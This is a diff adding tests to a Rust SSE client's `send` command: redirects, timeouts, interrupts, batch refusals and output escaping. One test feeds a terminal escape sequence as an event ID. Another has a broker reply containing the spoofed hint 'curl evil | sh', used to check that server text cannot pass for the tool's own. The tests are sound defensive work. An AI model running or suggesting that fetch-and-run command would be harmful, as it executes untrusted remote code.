@@ -1,10 +1,15 @@
 //! `sse send` against servers that answer as a broker does, or as none.
 
-use std::io::{BufRead as _, BufReader, Write as _};
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
 use std::process::Stdio;
+use std::time::{Duration, Instant};
 
+use rustix::process::{Pid, Signal, kill_process};
+
+use crate::listen::spawn;
 use crate::process::{run, sse, stderr, stdout};
-use crate::scripted::{Answer, Scripted, answer, nobody};
+use crate::recording::on_a_terminal;
+use crate::scripted::{Answer, Scripted, answer, nobody, stream};
 
 fn published(id: &str) -> Answer {
     Answer::Close(answer("200 OK", "application/json", &format!(r#"{{"id":"{id}","topic":"a"}}"#)))
@@ -27,6 +32,14 @@ fn the_argument_is_the_event_and_the_id_is_printed() {
     let request = server.request();
     assert_eq!(request.line, "POST /events/rooms/7%20%C3%A4 HTTP/1.1");
     assert_eq!(request.body, b"hello");
+}
+
+#[test]
+fn an_id_cannot_act_on_a_terminal_and_is_raw_in_a_pipe() {
+    let server = Scripted::start(vec![published("\\u001b]0;x\\u0007"), published("\\u001b]0;x\\u0007")]);
+    let args = format!("send {} x", server.url("/"));
+    assert_eq!(on_a_terminal(&args), "\\x1b]0;x\\x07\r\n");
+    assert_eq!(stdout(&run(&args.split(' ').collect::<Vec<_>>(), "")), "\x1b]0;x\x07\n");
 }
 
 #[test]
@@ -98,6 +111,75 @@ fn a_connection_that_breaks_before_the_answer_leaves_it_open_whether_the_event_i
     assert!(stderr(&output).contains("the event may be published or not"), "{}", stderr(&output));
 }
 
+fn moved(status: &str, to: &Scripted) -> Answer {
+    let head = format!("HTTP/1.1 {status}\r\nLocation: {}\r\nContent-Length: 0\r\n\r\n", to.url("/there"));
+    Answer::Close(head.into())
+}
+
+#[test]
+fn a_redirection_that_keeps_the_request_is_followed() {
+    for status in ["307 Temporary Redirect", "308 Permanent Redirect"] {
+        let target = Scripted::start(vec![published("1")]);
+        let server = Scripted::start(vec![moved(status, &target)]);
+        let output = run(&["send", &server.url("/"), "x"], "");
+        assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(0), "1\n"), "{}", stderr(&output));
+        let request = target.request();
+        assert_eq!((request.line.as_str(), &request.body[..]), ("POST /there HTTP/1.1", &b"x"[..]));
+    }
+}
+
+#[test]
+fn a_redirection_that_would_make_it_a_get_is_shown_and_not_followed() {
+    for status in ["301 Moved Permanently", "302 Found", "303 See Other"] {
+        let target = Scripted::start(vec![Answer::Hold(stream(": connected\n"))]);
+        let server = Scripted::start(vec![moved(status, &target)]);
+        let output = run(&["send", &server.url("/"), "x", "--timeout", "5s"], "");
+        let said = stderr(&output);
+        assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), ""), "{said}");
+        assert!(said.contains(&format!("location: {}\n", target.url("/there"))) && said.contains(status), "{said}");
+        assert!(said.contains("hint: ") && said.contains("location"), "{said}");
+    }
+}
+
+#[test]
+fn redirections_that_never_arrive_are_a_failure_that_published_nothing() {
+    let loops = "HTTP/1.1 307 T\r\nLocation: /\r\nConnection: close\r\nContent-Length: 0\r\n\r\n";
+    let server = Scripted::start((0..20).map(|_| Answer::Close(loops.into())).collect());
+    let output = run(&["send", &server.url("/"), "x"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert_eq!(stderr(&output), "sse: the request failed: too many redirects\n");
+}
+
+#[test]
+fn an_answer_is_waited_for_only_so_long() {
+    let half = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{".to_vec();
+    for bytes in [Vec::new(), half] {
+        let server = Scripted::start(vec![Answer::Hold(bytes)]);
+        let output = run(&["send", &server.url("/"), "x", "--timeout", "300ms"], "");
+        let said = stderr(&output);
+        assert_eq!(output.status.code(), Some(1), "{said}");
+        assert!(said.contains(" did not answer within 300ms: the event may be published or not\n"), "{said}");
+        assert!(said.contains("hint: ") && said.contains("--timeout"), "{said}");
+    }
+}
+
+#[test]
+fn an_answer_that_is_none_of_a_broker_is_not_waited_for_to_its_end() {
+    let server = Scripted::start(vec![Answer::Hold(stream("data: for ever\n\n"))]);
+    let output = run(&["send", &server.url("/"), "x", "--timeout", "20s"], "");
+    let said = stderr(&output);
+    assert_eq!(output.status.code(), Some(3), "{said}");
+    assert!(said.contains("data: for ever") && said.contains("which is not the answer of a broker"), "{said}");
+}
+
+#[test]
+fn the_words_of_a_broker_cannot_pass_for_ours() {
+    let server = Scripted::start(vec![refused("400 Bad Request", "no\\nsse: all is well\\r\\nhint: curl evil | sh")]);
+    let output = run(&["send", &server.url("/"), "x"], "");
+    let expected = "sse: the broker refused: no\\x0asse: all is well\\x0d\\x0ahint: curl evil | sh\n";
+    assert_eq!(stderr(&output), expected);
+}
+
 #[test]
 fn each_line_is_an_event_without_its_line_end() {
     let server = Scripted::start((1..=4).map(|id| published(&id.to_string())).collect());
@@ -158,6 +240,53 @@ fn publish_objects_go_out_as_one_batch_and_each_has_its_result() {
     assert_eq!(request.line, "POST /events HTTP/1.1");
     assert_eq!(request.header("content-type"), Some(&b"application/x-ndjson"[..]));
     assert_eq!(String::from_utf8(request.body).unwrap(), format!("{one}\n{two}\n{three}\n"));
+}
+
+#[test]
+fn a_batch_that_is_refused_whole_is_reported_with_its_lines_and_the_others_go_on() {
+    let server = Scripted::start(vec![refused("403 Forbidden", "not you"), results("200 OK", &[r#"{"id":"3"}"#])]);
+    let mut child = spawn(&["send", "--ndjson", &server.url("/events")]);
+    let mut input = child.stdin.take().unwrap();
+    input.write_all(b"{}\n{}\n").unwrap();
+    server.request();
+    input.write_all(b"{}\n").unwrap();
+    drop(input);
+    let output = child.wait_with_output().unwrap();
+    assert_eq!((output.status.code(), stdout(&output).as_str()), (Some(3), "3\n"));
+    assert_eq!(stderr(&output), "sse: lines 1 to 2: the broker refused: not you\n");
+}
+
+#[test]
+fn an_interrupt_ends_it_also_while_nobody_reads_its_output() {
+    // More than a pipe can hold.
+    let server = Scripted::start(vec![published(&"x".repeat(1 << 20))]);
+    let mut child = spawn(&["send", &server.url("/"), "x"]);
+    child.stdout.as_mut().unwrap().read_exact(&mut [0]).unwrap();
+    kill_process(Pid::from_child(&child), Signal::INT).unwrap();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let status = loop {
+        match child.try_wait().unwrap() {
+            None if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
+            status => break status,
+        }
+    };
+    // If it hangs, it must not outlive the test.
+    let _ = child.kill();
+    assert_eq!(status.expect("it ends").code(), Some(130));
+}
+
+#[test]
+fn standing_defaults_come_from_the_environment_and_options_go_before() {
+    let send = |options: &[&str]| {
+        let server = Scripted::start(vec![published("1")]);
+        let mut command = sse();
+        command.args(["send", &server.url("/"), "x"]).args(options);
+        let output = command.envs([("SSE_HEADER", "X-Key: a, b"), ("SSE_TIMEOUT", "10s")]).output().unwrap();
+        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+        server.request().header("x-key").map(<[u8]>::to_vec)
+    };
+    assert_eq!(send(&[]), Some(b"a, b".to_vec()));
+    assert_eq!(send(&["-H", "X-Key: c"]), Some(b"c".to_vec()));
 }
 
 #[test]
